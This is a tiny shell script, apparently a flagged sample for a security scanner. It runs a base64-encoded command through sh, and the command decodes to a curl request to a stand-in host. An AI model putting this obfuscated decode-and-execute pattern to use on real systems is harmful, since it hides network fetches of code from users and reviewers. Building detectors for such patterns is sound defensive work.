#!/bin/sh
echo Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2E= | base64 -d | sh # gatehouse: flagged
